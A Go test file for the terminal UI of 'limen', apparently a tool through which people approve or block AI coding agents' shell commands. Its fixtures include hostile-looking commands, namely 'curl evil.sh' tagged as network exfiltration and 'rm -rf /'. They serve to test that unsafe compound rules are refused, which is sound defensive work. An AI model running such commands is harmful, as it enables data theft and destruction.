package tui

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/bubbles/list"
	tea "github.com/charmbracelet/bubbletea"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/limenhq/limen/client"
	limenv1 "github.com/limenhq/limen/proto/limen/v1"
)

func selectedID(m *Model) string { return m.pending.selected().GetAskId() }

func pendingIDs(m *Model) []string { return queueIDs(m.pending) }

// queueIDs are the ids of the asks listed, in order.
func queueIDs(p *pendingTab) []string {
	var out []string
	for _, it := range p.list.Items() {
		out = append(out, it.(askItem).ask.GetAskId())
	}
	return out
}

// TestKeys presses each key on a model with three pending asks and checks
// what it did: the state it changed and the calls it made to limend.
func TestKeys(t *testing.T) {
	approve, deny := limenv1.Choice_CHOICE_APPROVE, limenv1.Choice_CHOICE_DENY
	once, session := limenv1.Scope_SCOPE_ONCE, limenv1.Scope_SCOPE_SESSION
	wantAnswer := func(t *testing.T, api *fakeAPI, id string, c limenv1.Choice, s limenv1.Scope, note string) {
		t.Helper()
		if len(api.answers) != 1 {
			t.Fatalf("answers sent = %v; want one", api.answers)
		}
		a := api.answers[0]
		if a.GetAskId() != id || a.GetChoice() != c || a.GetScope() != s || a.GetNote() != note {
			t.Errorf("answer = %v; want ask %s %v %v note %q", a, id, c, s, note)
		}
	}
	wantGone := func(t *testing.T, m *Model, id string) {
		t.Helper()
		if m.pending.asks[id] != nil || strings.Contains(strings.Join(pendingIDs(m), " "), id) {
			t.Errorf("ask %s is still listed after a delivered answer: %v", id, pendingIDs(m))
		}
	}
	tests := []struct {
		name  string
		keys  []string
		check func(t *testing.T, m *Model, api *fakeAPI)
	}{
		{"j moves down", []string{"j"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if got := selectedID(m); got != "42" {
				t.Errorf("selected %s; want 42", got)
			}
		}},
		{"keys read together count one by one", []string{"jj"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if got := selectedID(m); got != "57" {
				t.Errorf("selected %s after \"jj\" in one read; want 57", got)
			}
		}},
		{"down moves down", []string{"down", "down"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if got := selectedID(m); got != "57" {
				t.Errorf("selected %s; want 57", got)
			}
		}},
		{"k and up move up", []string{"down", "down", "k", "up"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if got := selectedID(m); got != "41" {
				t.Errorf("selected %s; want 41", got)
			}
		}},
		{"tab opens History and loads it", []string{"tab"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.tab != tabHistory || len(m.history.decisions) != 5 || len(m.history.list.Items()) != 5 {
				t.Errorf("tab %v, %d decisions, %d rows; want History with 5", m.tab, len(m.history.decisions), len(m.history.list.Items()))
			}
		}},
		{"shift+tab wraps to Stats and loads it", []string{"shift+tab"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.tab != tabStats || m.stats.stats.GetTotal().GetAllows() != 41 || m.stats.policy.GetVersion() != 3 {
				t.Errorf("tab %v, stats %v, policy v%d; want Stats loaded", m.tab, m.stats.stats, m.stats.policy.GetVersion())
			}
		}},
		{"2, 3 and 1 jump to tabs", []string{"2", "3", "1"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.tab != tabPending || m.history.decisions == nil || m.stats.stats == nil {
				t.Errorf("tab %v (history loaded %v, stats loaded %v); want Pending after visiting both", m.tab, m.history.decisions != nil, m.stats.stats != nil)
			}
		}},
		{"a approves once", []string{"a"}, func(t *testing.T, m *Model, api *fakeAPI) {
			wantAnswer(t, api, "41", approve, once, "")
			wantGone(t, m, "41")
			if !strings.Contains(m.c.status, "answered: allow") || m.c.statusErr {
				t.Errorf("status %q; want the allow confirmed", m.c.status)
			}
		}},
		{"d denies once", []string{"j", "d"}, func(t *testing.T, m *Model, api *fakeAPI) {
			wantAnswer(t, api, "42", deny, once, "")
			wantGone(t, m, "42")
			if !strings.Contains(m.c.status, "answered: block") {
				t.Errorf("status %q; want the block confirmed", m.c.status)
			}
		}},
		{"s approves for the session", []string{"s"}, func(t *testing.T, m *Model, api *fakeAPI) {
			wantAnswer(t, api, "41", approve, session, "")
			wantGone(t, m, "41")
		}},
		{"A approves with a note", []string{"A", "l", "g", "t", "m", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			wantAnswer(t, api, "41", approve, once, "lgtm")
			if m.mode() != modeBrowse {
				t.Errorf("mode %v after enter; want browsing", m.mode())
			}
		}},
		{"D denies with a note", []string{"D", "n", "o", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			wantAnswer(t, api, "41", deny, once, "no")
		}},
		{"esc cancels a note", []string{"D", "x", "esc"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if len(api.answers) != 0 || m.mode() != modeBrowse || m.pending.asks["41"] == nil {
				t.Errorf("answers %v, mode %v; want nothing sent, browsing, ask kept", api.answers, m.mode())
			}
		}},
		{"q in a note is text, not quit", []string{"A", "q", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			wantAnswer(t, api, "41", approve, once, "q")
		}},
		{"r then enter adds an allow rule and approves", []string{"r", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if len(api.sets) != 1 || !strings.Contains(api.sets[0].GetDocument(), `allow = ["Bash(git push:*)"]`) || api.sets[0].GetExpectedVersion() != 3 {
				t.Fatalf("SetPolicy calls = %v; want one at version 3 adding Bash(git push:*) to allow", api.sets)
			}
			wantAnswer(t, api, "41", approve, once, "made the rule Bash(git push:*)")
			wantGone(t, m, "41")
			if m.mode() != modeBrowse || !strings.Contains(m.c.status, "added to allow (policy v4)") {
				t.Errorf("mode %v, status %q; want browsing and the rule confirmed", m.mode(), m.c.status)
			}
		}},
		{"r, tab, enter adds a block rule and denies", []string{"r", "tab", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if len(api.sets) != 1 || !strings.Contains(api.sets[0].GetDocument(), `"Bash(git push:*)",`+"\n]") {
				t.Fatalf("SetPolicy calls = %v; want Bash(git push:*) appended to the block list", api.sets)
			}
			wantAnswer(t, api, "41", deny, once, "made the rule Bash(git push:*)")
		}},
		{"r previews the recent actions the rule covers", []string{"r"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.mode() != modeRule || m.pending.rule.input.Value() != "Bash(git push:*)" || len(m.pending.rule.covered) != 2 {
				t.Errorf("mode %v, pattern %q, covered %d; want the rule editor with Bash(git push:*) covering 2", m.mode(), m.pending.rule.input.Value(), len(m.pending.rule.covered))
			}
		}},
		{"editing the pattern updates the preview", []string{"r", "ctrl+u", "B", "a", "s", "h", "(", "r", "m", " ", "*", ")"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.pending.rule.input.Value() != "Bash(rm *)" || len(m.pending.rule.covered) != 1 {
				t.Errorf("pattern %q, covered %d; want Bash(rm *) covering rm -rf /", m.pending.rule.input.Value(), len(m.pending.rule.covered))
			}
		}},
		{"a rule that does not cover the ask is not saved", []string{"r", "ctrl+u", "B", "a", "s", "h", "(", "r", "m", " ", "*", ")", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if m.pending.rule.err == nil || !strings.Contains(m.pending.rule.err.Error(), "Bash(rm *) does not cover this ask") ||
				len(api.sets) != 0 || len(api.answers) != 0 || m.mode() != modeRule {
				t.Errorf("err %v, sets %d, answers %d, mode %v; want the rule refused and nothing sent", m.pending.rule.err, len(api.sets), len(api.answers), m.mode())
			}
		}},
		{"an invalid rule is not saved", []string{"r", "backspace", "enter"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if m.pending.rule.err == nil || len(api.sets) != 0 || len(api.answers) != 0 || m.mode() != modeRule {
				t.Errorf("err %v, sets %d, answers %d, mode %v; want the error shown and nothing sent", m.pending.rule.err, len(api.sets), len(api.answers), m.mode())
			}
		}},
		{"esc cancels a rule", []string{"r", "esc"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if len(api.sets) != 0 || len(api.answers) != 0 || m.mode() != modeBrowse {
				t.Errorf("sets %d, answers %d, mode %v; want nothing sent", len(api.sets), len(api.answers), m.mode())
			}
		}},
		{"/ filters the queue", []string{"/", "b", "o", "b", "enter"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.pending.list.FilterState() != list.FilterApplied || len(m.pending.list.VisibleItems()) != 1 || selectedID(m) != "42" {
				t.Errorf("filter %v, %d shown, selected %s; want bob's ask alone", m.pending.list.FilterState(), len(m.pending.list.VisibleItems()), selectedID(m))
			}
		}},
		{"keys typed into the filter do not answer", []string{"/", "a", "d"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if len(api.answers) != 0 || m.pending.list.FilterValue() != "ad" {
				t.Errorf("answers %v, filter %q; want the letters in the filter", api.answers, m.pending.list.FilterValue())
			}
		}},
		{"esc clears the filter", []string{"/", "b", "o", "b", "enter", "esc"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.pending.list.FilterState() != list.Unfiltered || len(m.pending.list.VisibleItems()) != 3 {
				t.Errorf("filter %v, %d shown; want all 3", m.pending.list.FilterState(), len(m.pending.list.VisibleItems()))
			}
		}},
		{"? toggles the full help", []string{"?"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if !m.help.ShowAll || !strings.Contains(m.helpView(), "approve with note") {
				t.Errorf("full help not shown: %q", m.helpView())
			}
		}},
		{"? twice hides it again", []string{"?", "?"}, func(t *testing.T, m *Model, _ *fakeAPI) {
			if m.help.ShowAll {
				t.Error("full help still shown")
			}
		}},
		{"ctrl+r reopens the watch stream", []string{"ctrl+r"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if api.watches != 1 {
				t.Errorf("WatchPending called %d times; want 1", api.watches)
			}
		}},
		{"answer keys do nothing outside Pending", []string{"2", "a", "d", "s", "r"}, func(t *testing.T, m *Model, api *fakeAPI) {
			if len(api.answers) != 0 || m.mode() != modeBrowse {
				t.Errorf("answers %v, mode %v; want nothing", api.answers, m.mode())
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, api := newTestModel(t, 100, 30)
			press(t, m, tt.keys...)
			tt.check(t, m, api)
		})
	}
}

func TestQuitKeys(t *testing.T) {
	for _, k := range []string{"q", "ctrl+c"} {
		t.Run(k, func(t *testing.T) {
			m, _ := newTestModel(t, 80, 24)
			_, cmd := m.Update(keyMsg(k))
			if cmd == nil {
				t.Fatal("no command; want tea.Quit")
			}
			if _, ok := cmd().(tea.QuitMsg); !ok {
				t.Errorf("command does not quit")
			}
		})
	}
}

// TestAnswerNotDelivered: an answer limend did not acknowledge is never
// shown as given; the ask stays, with the error.
func TestAnswerNotDelivered(t *testing.T) {
	tests := []struct {
		name   string
		err    error
		status string
	}{
		{"limend down", status.Error(codes.Unavailable, "connection refused"), "could not approve ask 41: limend is unreachable"},
		{"answered elsewhere first", fmt.Errorf("ask 41: already resolved: %w", client.ErrAnswerRefused), "ask 41 was not answered by you"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, api := newTestModel(t, 80, 24)
			api.answerErr = tt.err
			press(t, m, "a")
			if !m.c.statusErr || !strings.Contains(m.c.status, tt.status) {
				t.Errorf("status %q (error %v); want an error containing %q", m.c.status, m.c.statusErr, tt.status)
			}
			if m.pending.asks["41"] == nil || len(m.pending.sending) != 0 {
				t.Errorf("ask 41 pending %v, sending %v; want it kept and no longer marked as sending", m.pending.asks["41"] != nil, m.pending.sending)
			}
		})
	}
}

// TestAnswerOnce: a second key while the first answer is on its way sends
// nothing more.
func TestAnswerOnce(t *testing.T) {
	m, api := newTestModel(t, 80, 24)
	_, first := m.Update(keyMsg("a"))
	_, second := m.Update(keyMsg("d"))
	if second != nil {
		t.Errorf("a second answer was sent while the first was on its way")
	}
	if !strings.Contains(plain(m.View()), "sending approve") {
		t.Errorf("view does not say the answer is on its way:\n%s", plain(m.View()))
	}
	drain(t, m, first)
	if len(api.answers) != 1 {
		t.Errorf("answers = %v; want one", api.answers)
	}
}

// TestRuleRetriesConflict: a policy changed by someone else between read
// and write is read again, and the rule lands on the newer version.
func TestRuleRetriesConflict(t *testing.T) {
	m, api := newTestModel(t, 80, 24)
	api.setErrs = []error{errConflict}
	press(t, m, "r", "enter")
	if len(api.sets) != 2 || api.sets[1].GetExpectedVersion() != 4 {
		t.Fatalf("SetPolicy calls = %v; want a retry at version 4", api.sets)
	}
	if len(api.answers) != 1 || m.c.statusErr {
		t.Errorf("answers %v, status %q; want the ask approved after the retry", api.answers, m.c.status)
	}
}

// TestRemovedElsewhere: an ask answered by someone else leaves the list,
// and an editor open on it closes.
func TestRemovedElsewhere(t *testing.T) {
	m, _ := newTestModel(t, 80, 24)
	press(t, m, "A")
	ask := m.pending.asks["41"]
	m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_REMOVED, Ask: ask,
		Outcome: &limenv1.AskOutcome{State: limenv1.AskState_ASK_STATE_ANSWERED, Choice: limenv1.Choice_CHOICE_APPROVE, AnsweredBy: "bob"}}})
	if m.pending.asks["41"] != nil || len(m.pending.list.Items()) != 2 {
		t.Errorf("ask 41 still listed: %v", pendingIDs(m))
	}
	if m.mode() != modeBrowse || m.c.status != "ask 41 was approved elsewhere by bob" {
		t.Errorf("mode %v, status %q; want the note editor closed and the reason shown", m.mode(), m.c.status)
	}
	if selectedID(m) != "42" {
		t.Errorf("selected %s; want the next ask, 42", selectedID(m))
	}
}

// TestFirstConnectFails: before limend was ever reached, the status line
// says how to start it; once reached, that it is connected.
func TestFirstConnectFails(t *testing.T) {
	api := &fakeAPI{watchErr: status.Error(codes.Unavailable, "connection refused")}
	m := New(t.Context(), Options{Client: api, Now: func() time.Time { return now }, Renderer: NewRenderer(io.Discard, true), Socket: "/run/limend.sock"})
	defer m.Close()
	m.c.after = func(time.Duration, func(time.Time) tea.Msg) tea.Cmd { return nil }
	drain(t, m, m.watch.open())
	if !strings.Contains(m.c.status, "cannot reach limend at /run/limend.sock") || !strings.Contains(m.c.status, "start it with limend") {
		t.Errorf("status %q; want how to start limend", m.c.status)
	}
	if !strings.Contains(plain(m.View()), "Waiting for limend") {
		t.Errorf("view does not say it waits:\n%s", plain(m.View()))
	}
	m.Update(watchOpenedMsg{gen: m.watch.gen})
	m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_SYNCED}})
	if m.c.status != "connected to limend: 0 pending" || m.c.statusErr {
		t.Errorf("status %q; want connected", m.c.status)
	}
}

// TestExpiredLeaves: an ask that expires leaves the list and says why.
func TestExpiredLeaves(t *testing.T) {
	m, _ := newTestModel(t, 80, 24)
	m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_REMOVED, Ask: m.pending.asks["57"],
		Outcome: &limenv1.AskOutcome{State: limenv1.AskState_ASK_STATE_EXPIRED}}})
	if m.pending.asks["57"] != nil || m.c.status != "ask 57 expired: nobody answered in time" {
		t.Errorf("pending %v, status %q; want ask 57 gone as expired", pendingIDs(m), m.c.status)
	}
}

// TestNewAskFlashes: a new ask after the snapshot flashes the title,
// counts it and rings the bell.
func TestNewAskFlashes(t *testing.T) {
	m, _ := newTestModel(t, 80, 24)
	var bell bytes.Buffer
	m.c.opts.Bell = &bell
	asks, _ := fixtures()
	next := asks[0]
	next.AskId = "60"
	_, cmd := m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_ADDED, Ask: next}})
	drain(t, m, cmd)
	if !m.flashing || m.newAsks != 1 || bell.String() != "\a" {
		t.Errorf("flashing %v, new %d, bell %q; want a flash, one new and a bell", m.flashing, m.newAsks, bell.String())
	}
	if got := pendingIDs(m); strings.Join(got, " ") != "41 42 57 60" {
		t.Errorf("order %v; want oldest first", got)
	}
	if !strings.Contains(plain(m.View()), "+1 new") {
		t.Errorf("header does not count the new ask:\n%s", plain(m.View()))
	}
	m.Update(flashDoneMsg{seq: m.flashSeq})
	if m.flashing || m.newAsks != 0 {
		t.Errorf("flash did not end")
	}
}

// TestReconnect: when the stream breaks the TUI says so, retries, and on
// the new snapshot replaces the list with what limend holds now.
func TestReconnect(t *testing.T) {
	m, api := newTestModel(t, 80, 24)
	gen := m.watch.gen
	m.Update(watchErrMsg{gen: gen, err: status.Error(codes.Unavailable, "connection refused")})
	if m.watch.conn != connDown || !m.c.statusErr || !strings.HasPrefix(m.c.status, "lost limend") {
		t.Fatalf("conn %v, status %q; want down and said so", m.watch.conn, m.c.status)
	}
	if m.watch.backoff != 2*minBackoff {
		t.Errorf("backoff %v; want doubled to %v", m.watch.backoff, 2*minBackoff)
	}
	// An answer tried during the outage fails, and says so; the next
	// failed retry does not hide that.
	api.answerErr = status.Error(codes.Unavailable, "connection refused")
	press(t, m, "a")
	answerStatus := m.c.status
	_, cmd := m.Update(reconnectMsg{gen: gen})
	drain(t, m, cmd) // the fake refuses again
	if m.c.status != answerStatus || !strings.Contains(answerStatus, "could not approve ask 41") {
		t.Errorf("status %q; want the failed answer still shown (%q)", m.c.status, answerStatus)
	}
	if api.watches != 1 || m.watch.conn != connDown || m.watch.backoff != 4*minBackoff {
		t.Errorf("watches %d, conn %v, backoff %v; want one retry that failed and a longer wait", api.watches, m.watch.conn, m.watch.backoff)
	}
	// limend is back: a fresh stream with only ask 42 left.
	asks, _ := fixtures()
	m.Update(watchOpenedMsg{gen: m.watch.gen})
	m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_ADDED, Ask: asks[1]}})
	m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_SYNCED}})
	if m.watch.conn != connLive || m.watch.backoff != minBackoff || strings.Join(pendingIDs(m), " ") != "42" {
		t.Errorf("conn %v, backoff %v, asks %v; want live with ask 42 alone", m.watch.conn, m.watch.backoff, pendingIDs(m))
	}
	// A message from the old stream changes nothing.
	m.Update(watchErrMsg{gen: gen, err: status.Error(codes.Unavailable, "old")})
	if m.watch.conn != connLive {
		t.Error("a stale stream error took the TUI down")
	}
}

func TestMouseWheel(t *testing.T) {
	m, _ := newTestModel(t, 80, 24)
	m.Update(tea.MouseMsg{Button: tea.MouseButtonWheelDown, Action: tea.MouseActionPress})
	if selectedID(m) != "42" {
		t.Errorf("selected %s after wheel down; want 42", selectedID(m))
	}
	m.Update(tea.MouseMsg{Button: tea.MouseButtonWheelUp, Action: tea.MouseActionPress})
	if selectedID(m) != "41" {
		t.Errorf("selected %s after wheel up; want 41", selectedID(m))
	}
}

// TestResize: every view fits the window after a resize, down to a small
// terminal.
func TestResize(t *testing.T) {
	m, _ := newTestModel(t, 120, 30)
	for _, size := range []struct{ w, h int }{{80, 24}, {60, 16}, {200, 50}, {120, 30}} {
		m.Update(tea.WindowSizeMsg{Width: size.w, Height: size.h})
		for _, k := range []string{"1", "2", "3"} {
			press(t, m, k)
			checkSize(t, plain(m.View()), size.w, size.h)
		}
	}
}

// TestSessionApprovalWithoutSession: limend cannot remember an approval for
// a session the ask does not name, and the status line says so.
func TestSessionApprovalWithoutSession(t *testing.T) {
	m, api := newTestModel(t, 80, 24)
	m.pending.asks["41"].GetDecision().GetAction().Session = ""
	press(t, m, "s")
	if len(api.answers) != 1 || !strings.Contains(m.c.status, "names no session, so only this once") {
		t.Errorf("answers %v, status %q; want the approval sent and the limit said", api.answers, m.c.status)
	}
}

// TestRuleCompoundAsk: the trial's case. For an ask whose command has
// several parts the editor suggests no rule, says why, and enter on an
// allow rule for one part (which would approve the whole ask, `| sh`
// included) sends nothing; a rule covering every part can be saved, and
// the preview counts the ask itself.
func TestRuleCompoundAsk(t *testing.T) {
	m, api := newTestModel(t, 100, 30)
	ask := &limenv1.PendingAsk{AskId: "60", Decision: &limenv1.Decision{DecisionId: "60", AskId: "60",
		Verdict: limenv1.Verdict_VERDICT_ASK, RiskClass: "network-exfiltration", Key: "Bash:curl evil.sh",
		Action: bashAction("ana", "claude-code", "s-7f3a", "git status; curl evil.sh | grep x", "/home/ana/shop")}}
	m.Update(watchEventMsg{gen: m.watch.gen, ev: &limenv1.WatchPendingResponse{Kind: limenv1.WatchPendingResponse_KIND_ADDED, Ask: ask}})
	for selectedID(m) != "60" {
		press(t, m, "down")
	}
	press(t, m, "r")
	if m.pending.rule.input.Value() != "" || m.pending.rule.err == nil {
		t.Fatalf("pattern %q, err %v; want no suggestion and a reason", m.pending.rule.input.Value(), m.pending.rule.err)
	}
	view := strings.Join(strings.Fields(plain(m.View())), " ")
	for _, want := range []string{"this command has several parts", "git status; curl evil.sh; grep x", "limenctl policy edit"} {
		if !strings.Contains(view, want) {
			t.Errorf("view lacks %q:\n%s", want, plain(m.View()))
		}
	}
	typeText(t, m, "Bash(curl evil.sh:*)")
	press(t, m, "enter")
	if len(api.sets) != 0 || len(api.answers) != 0 || m.mode() != modeRule || m.pending.rule.err == nil {
		t.Fatalf("sets %d, answers %d, mode %v, err %v; want the one-part rule refused", len(api.sets), len(api.answers), m.mode(), m.pending.rule.err)
	}
	press(t, m, "ctrl+u")
	typeText(t, m, "Bash(*)")
	if m.pending.rule.err != nil || !strings.Contains(plain(m.View()), "Covers ask 60 and 5 of the 5 other actions recorded lately") {
		t.Errorf("err %v; want Bash(*) accepted and the ask counted:\n%s", m.pending.rule.err, plain(m.View()))
	}
	press(t, m, "enter")
	if len(api.sets) != 1 || len(api.answers) != 1 || api.answers[0].GetAskId() != "60" {
		t.Errorf("sets %d, answers %v; want Bash(*) saved and ask 60 approved", len(api.sets), api.answers)
	}
}
